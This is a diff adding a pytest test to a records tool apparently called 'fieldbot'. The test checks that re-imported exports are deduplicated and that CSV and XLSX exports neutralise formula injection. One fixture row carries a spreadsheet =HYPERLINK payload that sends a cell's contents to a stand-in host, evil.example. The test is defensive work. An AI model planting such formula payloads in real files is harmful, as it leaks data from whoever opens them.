@@ -2,12 +2,14 @@
 
 from __future__ import annotations
 
+import csv
 import json
 import os
 import subprocess
 import sys
 from pathlib import Path
 
+import openpyxl
 import pytest
 
 pytestmark = pytest.mark.slow
@@ -125,3 +127,37 @@ def test_report_files_are_written(tmp_path: Path, fmt: str) -> None:
     assert result.returncode == 0, result.stderr
     head = out.read_bytes()[:8]
     assert head.startswith({"csv": b"\xef\xbb\xbf", "xlsx": b"PK", "png": b"\x89PNG"}[fmt])
+
+
+def test_an_export_imported_again_adds_nothing_and_its_cells_are_text(tmp_path: Path) -> None:
+    _, records = write_files(tmp_path)
+    hostile = tmp_path / "hostile.csv"
+    hostile.write_text(
+        "kind,date,staff,area,activity,destination,channel,consulter\n"
+        'outing,2020-07-01,"=HYPERLINK(""http://evil.example/?""&D2,""x"")",kyonan,outing,高齢者サロン,,\n',
+        encoding="utf-8",
+    )
+    for path in (records, hostile):
+        result = fieldbot(tmp_path, "import", "records", str(path))
+        assert result.returncode == 0, result.stdout + result.stderr
+    exported = tmp_path / "fy2020.csv"
+    result = fieldbot(tmp_path, "export", "--fy", "2020", "--format", "csv", "--out", str(exported))
+    assert result.returncode == 0 and "wrote 52 records of FY2020" in result.stdout, result.stderr
+    with exported.open(encoding="utf-8-sig", newline="") as source:
+        rows = list(csv.DictReader(source))
+    assert {r["staff"] for r in rows} == {"山田 花子", '\'=HYPERLINK("http://evil.example/?"&D2,"x")'}
+
+    again = fieldbot(tmp_path, "import", "records", str(exported))
+    assert again.returncode == 0, again.stdout + again.stderr
+    assert "52 records already in the database were skipped" in again.stdout
+    twice = fieldbot(tmp_path, "import", "records", str(exported))
+    assert twice.returncode == 1 and "already imported" in twice.stdout
+    lines = fieldbot(tmp_path, "report", "--fy", "2020").stdout.splitlines()
+    assert "・活動記録 28件 (+28件)" in lines and "・子ども政策課 12件 (新)" in lines  # counted once
+
+    workbook = tmp_path / "fy2020.xlsx"
+    result = fieldbot(tmp_path, "export", "--fy", "2020", "--format", "xlsx", "--out", str(workbook))
+    assert result.returncode == 0, result.stderr
+    cells = [c for row in openpyxl.load_workbook(workbook).worksheets[0].iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert '\'=HYPERLINK("http://evil.example/?"&D2,"x")' in {c.value for c in cells}
